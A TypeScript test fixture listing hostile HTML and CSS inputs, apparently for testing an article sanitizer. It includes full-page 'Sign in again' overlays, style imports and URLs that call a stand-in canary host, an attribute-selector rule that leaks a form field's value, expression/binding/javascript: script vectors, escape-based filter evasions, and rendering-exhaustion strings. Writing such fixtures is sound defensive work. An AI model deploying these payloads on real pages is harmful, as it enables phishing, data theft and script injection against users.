const cover = 'position:fixed;inset:0;z-index:2147483647;background:red';

/** Styles that would affect the page around the article, or make requests. */
export const styles: Record<string, string> = {
  'a cover over the page': `<p style="${cover}">Sign in again</p>`,
  'a link over the page': `<a href="https://canary.example/" style="${cover}">Sign in again</a>`,
  'a style element': '<style>body{display:none}header{visibility:hidden}</style>',
  'a style element that fetches': '<style>body{background:url(https://canary.example/body)}</style>',
  'an import': '<style>@import url("https://canary.example/import.css");</style>',
  'an import in upper case and escapes': '<STYLE>@\\69mport "https://canary.example/escaped.css";</STYLE>',
  'a face that is fetched':
    '<style>@font-face{font-family:x;src:url(https://canary.example/face)}p{font-family:x}</style>',
  'reading a field by its value': '<style>input[value^=a]{background:url(https://canary.example/a)}</style>',
  'an expression': '<p style="width:expression(ranHere=1)">Words</p>',
  'an expression with comments': '<p style="width:ex/**/pression(ranHere=1)">Words</p>',
  'a binding': '<p style="-moz-binding:url(https://canary.example/binding.xml#x)">Words</p>',
  'a behaviour': '<p style="behavior:url(https://canary.example/x.htc)">Words</p>',
  'an address that is code': '<p style="background:url(javascript:ranHere=1)">Words</p>',
  'an address that is fetched': '<p style="background:url(//canary.example/style)">Words</p>',
  'a list mark that is fetched': '<ul style="list-style:url(https://canary.example/mark)"><li>Words</li></ul>',
  'a style with entities': '<p style="&#112;osition:fixed;top:0;left:0">Words</p>',
  'a style with escapes': '<p style="p\\6fsition:fixed;top:0;left:0">Words</p>',
  'moved out of the article': '<p style="position:absolute;top:-999px;margin:-999px;transform:scale(99)">Words</p>',
  'an animation of the page': '<style>@keyframes x{to{left:9px}}*{animation:x 1s}</style>',
  'layers and properties': '<style>@layer x{:root{--ink:red}}@property --x{syntax:"*";inherits:true}</style>',
  'a weight that hides more': '<b style="font-weight:normal;position:fixed;inset:0">Words</b>',
  'a mark of a text processor with more': '<p style="mso-list:l0 level1;position:fixed;inset:0">1. Words</p>',
  'classes of the page': '<p class="sr-only hidden visually-hidden">Words</p>',
  'attributes that are styles':
    '<font color=red size=7>a</font><table width=9999 height=9999 bgcolor=red border=99><tr><td width=9999 nowrap align=right>b</table>',
  'one cell as large as a city': '<table><tr><td colspan=1000 rowspan=65534>a<td>b<tr><td>c<td>d</table>',
  'characters that pile up': `<p>${`W${'\u0301\u0316'.repeat(400)}`.repeat(4)}</p>`,
  'a word without an end': `<p>${'road'.repeat(2_000)}</p>`,
  'a link without an end': `<p><a href="https://a.example/${'x'.repeat(4_000)}">${'x'.repeat(4_000)}</a></p>`,
  'a heading without an end': `<h2>${'road'.repeat(300)}</h2>`,
};
